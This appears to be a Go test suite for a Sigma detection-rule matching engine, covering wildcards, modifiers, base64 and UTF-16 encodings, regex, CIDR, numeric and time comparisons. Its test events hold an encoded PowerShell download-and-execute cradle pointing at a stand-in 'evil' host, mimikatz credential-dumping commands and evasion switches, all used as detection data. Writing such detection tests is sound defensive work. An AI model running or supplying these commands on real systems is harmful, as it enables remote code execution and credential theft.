package sigma

import (
	"encoding/base64"
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func utf16Bytes(s string, big bool) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		if big {
			b = binary.BigEndian.AppendUint16(b, u)
		} else {
			b = binary.LittleEndian.AppendUint16(b, u)
		}
	}
	return string(b)
}

type matchCase struct {
	name      string
	detection string
	event     Event
	want      bool
}

func runMatchCases(t *testing.T, cases []matchCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := mustRule(t, tc.detection)
			if got := r.Match(tc.event); got != tc.want {
				t.Errorf("Match(%v) = %v, want %v\n%s", tc.event, got, tc.want, tc.detection)
			}
		})
	}
}

func TestPlainValues(t *testing.T) {
	const whoami = `
sel:
    Image: 'C:\Windows\System32\whoami.exe'
condition: sel`
	runMatchCases(t, []matchCase{
		{"equal", whoami, ev{"Image": `C:\Windows\System32\whoami.exe`}, true},
		{"equal ignores case", whoami, ev{"Image": `c:\WINDOWS\system32\WHOAMI.EXE`}, true},
		{"equal is whole value", whoami, ev{"Image": `C:\Windows\System32\whoami.exe.bak`}, false},
		{"absent field", whoami, ev{"CommandLine": "whoami"}, false},
		{"double backslash is one", `
sel:
    Image: 'C:\\Windows\\System32\\whoami.exe'
condition: sel`, ev{"Image": `C:\Windows\System32\whoami.exe`}, true},
		{"unicode case folding", `
sel:
    User: 'ÄRGER'
condition: sel`, ev{"User": "ärger"}, true},
		{"kelvin sign is not k", `
sel:
    User: 'k'
condition: sel`, ev{"User": "\u212a"}, false},
		{"value list is OR", `
sel:
    Image:
        - '*\cmd.exe'
        - '*\powershell.exe'
condition: sel`, ev{"Image": `C:\x\PowerShell.exe`}, true},
		{"map is AND", `
sel:
    Image: '*\cmd.exe'
    CommandLine: '*/c*'
condition: sel`, ev{"Image": `C:\cmd.exe`, "CommandLine": "cmd /k"}, false},
		{"list of maps is OR", `
sel:
    - Image|endswith: '\example.exe'
    - Description|contains: 'Test executable'
condition: sel`, ev{"Description": "A test EXECUTABLE file"}, true},
		{"list of maps none", `
sel:
    - Image|endswith: '\example.exe'
    - Description|contains: 'Test executable'
condition: sel`, ev{"Image": `C:\other.exe`}, false},
		{"yaml number compares numerically", `
sel:
    EventID: 4688
condition: sel`, ev{"EventID": "04688"}, true},
		{"yaml number list", `
sel:
    EventID:
        - 517
        - 1102
condition: sel`, ev{"EventID": "1102"}, true},
		{"yaml number differs", `
sel:
    EventID: 4688
condition: sel`, ev{"EventID": "4689"}, false},
		{"unquoted hex number", `
sel:
    GrantedAccess: 0x1410
condition: sel`, ev{"GrantedAccess": "0x00001410"}, true},
		{"unquoted hex number as written", `
sel:
    GrantedAccess: 0x1410
condition: sel`, ev{"GrantedAccess": "0X1410"}, true},
		{"quoted number is a string", `
sel:
    GrantedAccess: '0x1410'
condition: sel`, ev{"GrantedAccess": "0x00001410"}, false},
		{"big integers exact", `
sel:
    LogonId: 9007199254740993
condition: sel`, ev{"LogonId": "9007199254740992"}, false},
		{"yaml number against text", `
sel:
    LogonType: 3
condition: sel`, ev{"LogonType": "three"}, false},
		{"boolean value is text", `
sel:
    Enabled: true
condition: sel`, ev{"Enabled": "True"}, true},
	})
}

func TestWildcards(t *testing.T) {
	runMatchCases(t, []matchCase{
		{"star", `
sel:
    Image: 'C:\\*\cmd.exe'
condition: sel`, ev{"Image": `c:\windows\system32\CMD.exe`}, true},
		{"star needs the suffix", `
sel:
    Image: 'C:\\*\cmd.exe'
condition: sel`, ev{"Image": `c:\windows\system32\cmd.exe.mui`}, false},
		{"question mark", `
sel:
    Image: 'prog?.exe'
condition: sel`, ev{"Image": "progA.exe"}, true},
		{"question mark is one character", `
sel:
    Image: 'prog?.exe'
condition: sel`, ev{"Image": "progAB.exe"}, false},
		{"question mark is one rune", `
sel:
    Image: 'prog?.exe'
condition: sel`, ev{"Image": "progé.exe"}, true},
		{"antivirus version", `
sel:
    Image: 'antivirus_V*.exe'
condition: sel`, ev{"Image": "antivirus_V21.2.1.exe"}, true},
		{"escaped star is literal", `
sel:
    Value: 'a\*b'
condition: sel`, ev{"Value": "a*b"}, true},
		{"escaped star is not a wildcard", `
sel:
    Value: 'a\*b'
condition: sel`, ev{"Value": "axb"}, false},
		{"escaped question mark", `
sel:
    Value: 'what\?'
condition: sel`, ev{"Value": "what?"}, true},
		{"escaped backslash then wildcard", `
sel:
    Value: 'C:\\*'
condition: sel`, ev{"Value": `C:\Users`}, true},
		{"three backslashes then star", `
sel:
    Value: 'C:\\\*'
condition: sel`, ev{"Value": `C:\*`}, true},
		{"three backslashes star not wildcard", `
sel:
    Value: 'C:\\\*'
condition: sel`, ev{"Value": `C:\Users`}, false},
		{"four backslashes are two", `
sel:
    Value: '\\\\server'
condition: sel`, ev{"Value": `\\server`}, true},
		{"middle segments in order", `
sel:
    CommandLine: '*a*b*c*'
condition: sel`, ev{"CommandLine": "xxcxxbxxa"}, false},
		{"middle segments found", `
sel:
    CommandLine: '*a*b*c*'
condition: sel`, ev{"CommandLine": "xaxbxcx"}, true},
		{"overlapping prefix and suffix", `
sel:
    CommandLine: 'ab*ba'
condition: sel`, ev{"CommandLine": "aba"}, false},
		{"bare star needs the field", `
sel:
    CommandLine: '*'
condition: sel`, ev{"Image": "x"}, false},
		{"bare star matches empty", `
sel:
    CommandLine: '*'
condition: sel`, ev{"CommandLine": ""}, true},
	})
}

func TestStringModifiers(t *testing.T) {
	runMatchCases(t, []matchCase{
		{"contains", `
sel:
    CommandLine|contains: 'sekurlsa::'
condition: sel`, ev{"CommandLine": "mimikatz SEKURLSA::logonpasswords"}, true},
		{"contains misses", `
sel:
    CommandLine|contains: 'sekurlsa::'
condition: sel`, ev{"CommandLine": "mimikatz lsadump::sam"}, false},
		{"startswith", `
sel:
    User|startswith: 'adm_'
condition: sel`, ev{"User": "ADM_bob"}, true},
		{"startswith misses", `
sel:
    User|startswith: 'adm_'
condition: sel`, ev{"User": "bob_adm_"}, false},
		{"endswith", `
sel:
    Image|endswith: '\rundll32.exe'
condition: sel`, ev{"Image": `C:\Windows\System32\RUNDLL32.EXE`}, true},
		{"endswith misses", `
sel:
    Image|endswith: '\rundll32.exe'
condition: sel`, ev{"Image": `C:\Windows\System32\xrundll32.exe`}, false},
		{"contains keeps inner wildcards", `
sel:
    CommandLine|contains: 'net*user'
condition: sel`, ev{"CommandLine": "cmd /c NET.exe  user /add"}, true},
		{"contains all", `
sel:
    CommandLine|contains|all:
        - 'process'
        - 'create'
condition: sel`, ev{"CommandLine": "wmic PROCESS call CREATE calc"}, true},
		{"contains all needs every value", `
sel:
    CommandLine|contains|all:
        - 'process'
        - 'create'
condition: sel`, ev{"CommandLine": "wmic process list"}, false},
		{"cased", `
sel:
    CommandLine|contains|cased: 'Invoke-Mimikatz'
condition: sel`, ev{"CommandLine": "invoke-mimikatz"}, false},
		{"cased exact case", `
sel:
    CommandLine|contains|cased: 'Invoke-Mimikatz'
condition: sel`, ev{"CommandLine": "x Invoke-Mimikatz y"}, true},
		{"cased equal", `
sel:
    Image|cased: 'C:\A.exe'
condition: sel`, ev{"Image": `C:\a.exe`}, false},
		{"windash hyphen", `
sel:
    CommandLine|windash|contains: ' -enc '
condition: sel`, ev{"CommandLine": "powershell -enc AAAA"}, true},
		{"windash slash", `
sel:
    CommandLine|windash|contains: ' -enc '
condition: sel`, ev{"CommandLine": "powershell /ENC AAAA"}, true},
		{"windash en dash", `
sel:
    CommandLine|windash|contains: ' -enc '
condition: sel`, ev{"CommandLine": "powershell \u2013enc AAAA"}, true},
		{"windash em dash", `
sel:
    CommandLine|windash|contains: ' -enc '
condition: sel`, ev{"CommandLine": "powershell \u2014enc AAAA"}, true},
		{"windash horizontal bar", `
sel:
    CommandLine|windash|contains: ' -enc '
condition: sel`, ev{"CommandLine": "powershell \u2015enc AAAA"}, true},
		{"windash other character", `
sel:
    CommandLine|windash|contains: ' -enc '
condition: sel`, ev{"CommandLine": "powershell +enc AAAA"}, false},
		{"windash leaves inner hyphens", `
sel:
    CommandLine|windash|contains: 'x86-64'
condition: sel`, ev{"CommandLine": "x86/64"}, false},
		{"windash slash to hyphen", `
sel:
    CommandLine|windash|contains: '/c '
condition: sel`, ev{"CommandLine": "cmd.exe -c whoami"}, true},
		{"windash two switches", `
sel:
    CommandLine|windash|contains: '-nop -w hidden'
condition: sel`, ev{"CommandLine": "powershell /nop \u2013w hidden"}, true},
		{"windash all", `
sel:
    CommandLine|windash|contains|all:
        - '-s '
        - '-ep bypass'
condition: sel`, ev{"CommandLine": "pwsh /ep bypass /s x"}, true},
	})
}

func TestEncodingModifiers(t *testing.T) {
	payload := "IEX (New-Object Net.WebClient).DownloadString('http://evil')"
	var cases []matchCase
	for _, prefix := range []string{"", "a", "ab", "abc"} {
		cases = append(cases,
			matchCase{"base64offset at offset " + prefix, `
sel:
    CommandLine|base64offset|contains: 'DownloadString'
condition: sel`, ev{"CommandLine": "powershell -enc " + b64(prefix+payload)}, true},
			matchCase{"utf16le base64offset at offset " + prefix, `
sel:
    CommandLine|utf16le|base64offset|contains: 'DownloadString'
condition: sel`, ev{"CommandLine": "powershell -enc " + b64(utf16Bytes(prefix+payload, false))}, true},
			matchCase{"wide base64offset at offset " + prefix, `
sel:
    CommandLine|wide|base64offset|contains: 'DownloadString'
condition: sel`, ev{"CommandLine": b64(utf16Bytes(prefix+payload, false))}, true},
			matchCase{"utf16be base64offset at offset " + prefix, `
sel:
    CommandLine|utf16be|base64offset|contains: 'DownloadString'
condition: sel`, ev{"CommandLine": b64(utf16Bytes(prefix+payload, true))}, true},
		)
	}
	cases = append(cases,
		matchCase{"base64offset absent text", `
sel:
    CommandLine|base64offset|contains: 'DownloadString'
condition: sel`, ev{"CommandLine": b64("Get-Process; Get-Service")}, false},
		matchCase{"base64offset is case-sensitive", `
sel:
    CommandLine|base64offset|contains: 'DownloadString'
condition: sel`, ev{"CommandLine": strings.ToLower(b64("xx DownloadString yy"))}, false},
		matchCase{"base64offset of upper-cased text", `
sel:
    CommandLine|base64offset|contains: 'DownloadString'
condition: sel`, ev{"CommandLine": "RE9XTkxPQURTVFJJTkc="}, false},
		matchCase{"utf16le without wide text", `
sel:
    CommandLine|utf16le|base64offset|contains: 'DownloadString'
condition: sel`, ev{"CommandLine": b64(payload)}, false},
		matchCase{"base64", `
sel:
    CommandLine|base64: 'hello'
condition: sel`, ev{"CommandLine": "aGVsbG8="}, true},
		matchCase{"base64 contains", `
sel:
    CommandLine|base64|contains: 'abc'
condition: sel`, ev{"CommandLine": "x YWJj y"}, true},
		matchCase{"base64 not plain", `
sel:
    CommandLine|base64: 'hello'
condition: sel`, ev{"CommandLine": "hello"}, false},
		matchCase{"utf16 has byte order mark", `
sel:
    Data|utf16|base64: 'cmd'
condition: sel`, ev{"Data": b64("\xff\xfe" + utf16Bytes("cmd", false))}, true},
		matchCase{"utf16 without byte order mark", `
sel:
    Data|utf16|base64: 'cmd'
condition: sel`, ev{"Data": b64(utf16Bytes("cmd", false))}, false},
		matchCase{"utf16le raw bytes", `
sel:
    Data|utf16le: 'cmd'
condition: sel`, ev{"Data": "c\x00m\x00d\x00"}, true},
		matchCase{"utf16be raw bytes", `
sel:
    Data|utf16be: 'cmd'
condition: sel`, ev{"Data": "\x00c\x00m\x00d"}, true},
		matchCase{"windash then base64offset", `
sel:
    CommandLine|windash|base64offset|contains: ' -w hidden'
condition: sel`, ev{"CommandLine": b64("powershell /w hidden")}, true},
	)
	runMatchCases(t, cases)
}

func TestBase64Offsets(t *testing.T) {
	// base64("ping") = cGluZw==: "Z" still comes from "g" alone, "w" also
	// from what follows. base64("\0ping") = AHBpbmc=: "AH" depends on the
	// byte before, "c" on the byte after. base64("\0\0ping") = AABwaW5n:
	// the text ends a group, so only "AAB" is cut.
	got := base64Offsets("ping")
	want := []string{"cGluZ", "Bpbm", "waW5n"}
	if len(got) != len(want) {
		t.Fatalf("base64Offsets = %q, want %q", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("variant %d = %q, want %q", i, got[i], want[i])
		}
	}
}

func TestTypeModifiers(t *testing.T) {
	runMatchCases(t, []matchCase{
		{"re", `
sel:
    CommandLine|re: 'powershell(\.exe)? -e(nc)? '
condition: sel`, ev{"CommandLine": "c:\\x\\powershell.exe -enc AAA"}, true},
		{"re is case-sensitive", `
sel:
    CommandLine|re: 'powershell -enc'
condition: sel`, ev{"CommandLine": "POWERSHELL -ENC"}, false},
		{"re i", `
sel:
    CommandLine|re|i: 'powershell -enc'
condition: sel`, ev{"CommandLine": "POWERSHELL -ENC"}, true},
		{"re anchors whole value", `
sel:
    CommandLine|re: '^x$'
condition: sel`, ev{"CommandLine": "a\nx\nb"}, false},
		{"re m", `
sel:
    CommandLine|re|m: '^x$'
condition: sel`, ev{"CommandLine": "a\nx\nb"}, true},
		{"re dot stops at newline", `
sel:
    CommandLine|re: 'a.b'
condition: sel`, ev{"CommandLine": "a\nb"}, false},
		{"re s", `
sel:
    CommandLine|re|s: 'a.b'
condition: sel`, ev{"CommandLine": "a\nb"}, true},
		{"re takes no escapes of its own", `
sel:
    Image|re: '\\cmd\.exe$'
condition: sel`, ev{"Image": `C:\cmd.exe`}, true},
		{"re all", `
sel:
    CommandLine|re|all:
        - 'a+'
        - 'b+'
condition: sel`, ev{"CommandLine": "xaaybb"}, true},
		{"cidr ipv4", `
sel:
    DestinationIp|cidr: '10.0.0.0/8'
condition: sel`, ev{"DestinationIp": "10.20.30.40"}, true},
		{"cidr ipv4 outside", `
sel:
    DestinationIp|cidr: '10.0.0.0/8'
condition: sel`, ev{"DestinationIp": "11.0.0.1"}, false},
		{"cidr list", `
sel:
    DestinationIp|cidr:
        - '10.0.0.0/8'
        - '192.168.0.0/16'
condition: sel`, ev{"DestinationIp": "192.168.1.1"}, true},
		{"cidr ipv6", `
sel:
    DestinationIp|cidr: 'fe80::/10'
condition: sel`, ev{"DestinationIp": "FE80::1c2:3"}, true},
		{"cidr ipv6 outside", `
sel:
    DestinationIp|cidr: 'fe80::/10'
condition: sel`, ev{"DestinationIp": "2001:db8::1"}, false},
		{"cidr mapped ipv4", `
sel:
    DestinationIp|cidr: '127.0.0.0/8'
condition: sel`, ev{"DestinationIp": "::ffff:127.0.0.1"}, true},
		{"cidr zone", `
sel:
    DestinationIp|cidr: 'fe80::/10'
condition: sel`, ev{"DestinationIp": "fe80::1%eth0"}, true},
		{"cidr not an address", `
sel:
    DestinationIp|cidr: '10.0.0.0/8'
condition: sel`, ev{"DestinationIp": "ten"}, false},
		{"cidr single host", `
sel:
    DestinationIp|cidr: '8.8.8.8'
condition: sel`, ev{"DestinationIp": "8.8.8.8"}, true},
		{"gt", `
sel:
    Count|gt: 10
condition: sel`, ev{"Count": "11"}, true},
		{"gt equal", `
sel:
    Count|gt: 10
condition: sel`, ev{"Count": "10"}, false},
		{"gte", `
sel:
    Count|gte: 10
condition: sel`, ev{"Count": "10"}, true},
		{"lt", `
sel:
    Count|lt: 10
condition: sel`, ev{"Count": "9.5"}, true},
		{"lt not numeric", `
sel:
    Count|lt: 10
condition: sel`, ev{"Count": "nine"}, false},
		{"lte", `
sel:
    Count|lte: 10
condition: sel`, ev{"Count": "10"}, true},
		{"lte above", `
sel:
    Count|lte: 10
condition: sel`, ev{"Count": "0x20"}, false},
		{"gte float rule", `
sel:
    Score|gte: 0.75
condition: sel`, ev{"Score": "0.8"}, true},
		{"gt negative", `
sel:
    Delta|gt: -5
condition: sel`, ev{"Delta": "-4"}, true},
		{"exists true", `
sel:
    PasswordLastSet|exists: true
condition: sel`, ev{"PasswordLastSet": ""}, true},
		{"exists true absent", `
sel:
    PasswordLastSet|exists: true
condition: sel`, ev{"Other": "x"}, false},
		{"exists false", `
sel:
    PasswordLastSet|exists: false
condition: sel`, ev{"Other": "x"}, true},
		{"exists false present", `
sel:
    PasswordLastSet|exists: false
condition: sel`, ev{"PasswordLastSet": "x"}, false},
		{"fieldref", `
sel:
    TargetUserName|fieldref: SubjectUserName
condition: sel`, ev{"TargetUserName": "Bob", "SubjectUserName": "BOB"}, true},
		{"fieldref differs", `
sel:
    TargetUserName|fieldref: SubjectUserName
condition: sel`, ev{"TargetUserName": "Bob", "SubjectUserName": "alice"}, false},
		{"fieldref other absent", `
sel:
    TargetUserName|fieldref: SubjectUserName
condition: sel`, ev{"TargetUserName": "Bob"}, false},
		{"fieldref cased", `
sel:
    TargetUserName|fieldref|cased: SubjectUserName
condition: sel`, ev{"TargetUserName": "Bob", "SubjectUserName": "BOB"}, false},
		{"fieldref contains", `
sel:
    CommandLine|fieldref|contains: TargetFilename
condition: sel`, ev{"CommandLine": `copy x C:\Temp\A.dll`, "TargetFilename": `c:\temp\a.dll`}, true},
		{"fieldref endswith", `
sel:
    Image|fieldref|endswith: OriginalFileName
condition: sel`, ev{"Image": `C:\x\evil.exe`, "OriginalFileName": "good.exe"}, false},
		{"fieldref neq", `
sel:
    ParentUser|fieldref|neq: User
condition: sel`, ev{"ParentUser": "SYSTEM", "User": "bob"}, true},
		{"neq", `
sel:
    User|neq: 'admin'
condition: sel`, ev{"User": "bob"}, true},
		{"neq equal", `
sel:
    User|neq: 'admin'
condition: sel`, ev{"User": "ADMIN"}, false},
		{"neq list is none of", `
sel:
    User|neq:
        - 'admin'
        - 'root'
condition: sel`, ev{"User": "root"}, false},
		{"neq absent", `
sel:
    User|neq: 'admin'
condition: sel`, ev{}, true},
	})
}

func TestNullAndEmpty(t *testing.T) {
	const null = `
sel:
    EventID: 4738
filter:
    PasswordLastSet: null
condition: sel and not filter`
	const empty = `
sel:
    CommandLine: ''
condition: sel`
	runMatchCases(t, []matchCase{
		{"null absent", null, ev{"EventID": "4738"}, false},
		{"null empty", null, ev{"EventID": "4738", "PasswordLastSet": ""}, false},
		{"null set", null, ev{"EventID": "4738", "PasswordLastSet": "2024-01-01"}, true},
		{"empty string empty", empty, ev{"CommandLine": ""}, true},
		{"empty string absent", empty, ev{}, true},
		{"empty string set", empty, ev{"CommandLine": "x"}, false},
		{"one of empty", `
selection_main:
    FieldA: 'something'
selection_empty1:
    FieldB: ''
selection_empty2:
    FieldB: null
condition: selection_main and 1 of selection_empty*`, ev{"FieldA": "something"}, true},
	})
}

func TestKeywords(t *testing.T) {
	const mimikatz = `
keywords:
    - 'event::clear'
    - 'event::drop'
condition: keywords`
	const cmdlet = `
keywords_cmdlet:
    '|all':
        - 'OabVirtualDirectory'
        - ' -ExternalUrl '
condition: keywords_cmdlet`
	runMatchCases(t, []matchCase{
		{"keyword in any value", mimikatz, kwev{"CommandLine": "mimikatz EVENT::CLEAR", "Image": "x"}, true},
		{"keyword in another value", mimikatz, kwev{"A": "nothing", "Z": "run event::drop now"}, true},
		{"keyword absent", mimikatz, kwev{"CommandLine": "event:clear"}, false},
		{"keyword in message", mimikatz, ev{"Message": "called event::drop"}, true},
		{"keyword only searches message", mimikatz, ev{"CommandLine": "event::drop"}, false},
		{"keywords all", cmdlet, kwev{"Payload": "Set-OabVirtualDirectory -ExternalUrl http://x"}, true},
		{"keywords all across values", cmdlet, kwev{"A": "Set-OabVirtualDirectory", "B": "x -ExternalUrl y"}, true},
		{"keywords all needs every one", cmdlet, kwev{"Payload": "Set-OabVirtualDirectory"}, false},
		{"keyword wildcard", `
keywords:
    - 'evil*tool'
condition: keywords`, kwev{"A": "an EVIL hacking tool"}, true},
		{"keyword scalar", `
keywords: 'psexesvc'
condition: keywords`, kwev{"ServiceName": "PSEXESVC"}, true},
		{"keyword regexp", `
keywords:
    '|re': 'evil[0-9]+'
condition: keywords`, kwev{"A": "x evil42 y"}, true},
		{"keywords and fields in one list", `
sel:
    - 'needle'
    - Image|endswith: '\a.exe'
condition: sel`, kwev{"Image": `C:\a.exe`}, true},
	})
}

// TestTimeModifiers checks the time modifiers of specification v2.1: they
// extract a part of a date, as written, and compare it as a number.
func TestTimeModifiers(t *testing.T) {
	tests := []struct {
		name, detection string
		value           string // UtcTime; "-" for absent
		want            bool
	}{
		{"hour equal", "UtcTime|hour: 3", "2023-08-15 03:53:59.757", true},
		{"hour differs", "UtcTime|hour: 3", "2023-08-15 13:53:59.757", false},
		{"hour as string", "UtcTime|hour: '3'", "2023-08-15T03:00:00Z", true},
		{"hour gte", "UtcTime|hour|gte: 22", "2023-08-15T23:10:00Z", true},
		{"hour lt", "UtcTime|hour|lt: 6", "2023-08-15T06:00:00Z", false},
		{"hour neq", "UtcTime|hour|neq: 6", "2023-08-15T07:00:00Z", true},
		{"no time zone conversion", "UtcTime|hour: 9", "2023-08-15T09:53:59+02:00", true},
		{"minute", "UtcTime|minute: 53", "2023-08-15T09:53:59Z", true},
		{"day", "UtcTime|day: 15", "2023-08-15T09:53:59Z", true},
		{"month", "UtcTime|month: 8", "2023-08-15", true},
		{"year", "UtcTime|year|lt: 2024", "2023-08-15", true},
		{"ISO week", "UtcTime|week: 33", "2023-08-15", true},
		{"week 1 of the next year", "UtcTime|week: 1", "2024-12-30", true},
		{"hour of a date without time", "UtcTime|hour: 0", "2023-08-15", false},
		{"not a date", "UtcTime|hour: 3", "03:00", false},
		{"impossible date", "UtcTime|day: 30", "2023-02-30 03:00", false},
		{"absent", "UtcTime|hour: 3", "-", false},
		{"list is an OR", "UtcTime|hour:\n        - 1\n        - 3", "2023-08-15 03:00", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := mustRule(t, "sel:\n    "+tt.detection+"\ncondition: sel")
			e := ev{}
			if tt.value != "-" {
				e["UtcTime"] = tt.value
			}
			if got := r.Match(e); got != tt.want {
				t.Errorf("Match(%q) = %v, want %v", tt.value, got, tt.want)
			}
		})
	}
}
